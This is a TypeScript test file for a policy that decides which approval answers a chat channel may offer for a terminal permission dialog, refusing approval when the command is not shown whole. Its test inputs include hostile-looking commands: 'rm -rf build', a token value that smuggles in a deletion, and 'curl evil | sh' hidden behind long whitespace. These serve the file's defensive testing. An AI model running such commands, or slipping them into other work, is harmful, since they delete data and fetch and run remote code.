/** What a channel may take an answer to: a person gives nothing that the message does not show whole. */
import { expect, test } from 'vitest';
import { ANSWERS } from '../../machines/channels/policy.ts';
import { bytesOf, offerOf } from '../../src/channels/offers.ts';
import type { Dialog } from '../../src/screen/dialog.ts';
import { linesOf } from '../../src/sources/question.ts';

const CUT = '… not shown whole: see and answer it at your terminal';
const OFFERS = ['yes', 'no', '3'].map((word) => ({ word, label: word, does: '' }));
const dialog = (some: Partial<Dialog>): Dialog => ({
  id: 'dialog-1',
  way: 'keys',
  kind: 'permission',
  question: '?',
  shows: [],
  whole: [],
  offers: OFFERS,
  withheld: [],
  ...some,
});
const wordsOf = (some: Partial<Dialog>): string[] => offerOf(dialog(some)).offers.map(({ word }) => word);

// Rules: A-3.
test.each<[string, readonly string[], readonly string[]]>([
  ['a short command', ['rm -rf build'], ['yes', 'no', '3']],
  ['rows of signs alone', ['{', '&&', '}'], ['yes', 'no', '3']],
  ['twenty rows', Array.from({ length: 20 }, () => 'make'), ['yes', 'no', '3']],
  ['a row more', Array.from({ length: 21 }, () => 'make'), ['no']],
  ['200 signs', ['x '.repeat(100)], ['yes', 'no', '3']],
  ['a sign more', [`${'x '.repeat(100)}y`], ['no']],
  ['blanks in front of it', [`${' '.repeat(5_000)}rm -rf build`], ['no']],
  ['a secret, which is taken out', ['curl --token=$(rm${IFS}-rf${IFS}build)'], ['no']],
  ['the name of a home folder, which is taken out too', ['rm -rf /home/ana/build'], ['yes', 'no', '3']],
  ['more than a message holds', Array.from({ length: 12 }, () => 'make all '.repeat(20)), ['no']],
])('what is asked about %s', (_, lines, words) => {
  expect(wordsOf(linesOf(lines))).toEqual(words);
});

// Rules: A-3.
test.each<[string, readonly string[] | null, string, readonly string[], string | undefined]>([
  ['is shown with the question', ['npm test'], 'for npm *', ['yes', 'no', '3', 'always'], 'always: for npm *'],
  [
    'and left out where the message has no room for it',
    ['npm test'],
    'x'.repeat(2_000),
    ['yes', 'no', '3'],
    'npm test',
  ],
  ['and where the question is not shown whole', null, 'for npm *', ['no'], CUT],
])('what "always" gives %s', (_, whole, does, words, row) => {
  const always = { word: 'always', label: 'Allow always', does, isGrave: true as const };
  const { shows, offers } = offerOf(dialog({ whole, offers: [...OFFERS, always] }));
  expect([offers.map(({ word }) => word), shows.at(-1)]).toEqual([words, row]);
});

test('what stands behind many blanks is in sight', () => {
  const [command, indented] = [`npm test${' '.repeat(180)}; curl evil | sh`, `${' '.repeat(12)}return 1;`];
  expect(offerOf(dialog(linesOf([command, indented]))).shows).toEqual(['npm test ␣×180 ; curl evil | sh', indented]);
});

test('what is cut says so and fits; what is whole is shown row by row', () => {
  const { shows } = offerOf(dialog(linesOf(Array.from({ length: 30 }, (_, nth) => `${nth}${'é'.repeat(150)}`))));
  expect(shows.at(-1)).toBe(CUT);
  expect(bytesOf(shows)).toBeLessThanOrEqual(ANSWERS.maxShownBytes);
  const rows = ['─'.repeat(200), '│ rm -rf build │', '}', '&&'];
  expect(offerOf(dialog({ whole: rows })).shows).toEqual(['───', '│ rm -rf build', '}', '&&']);
});
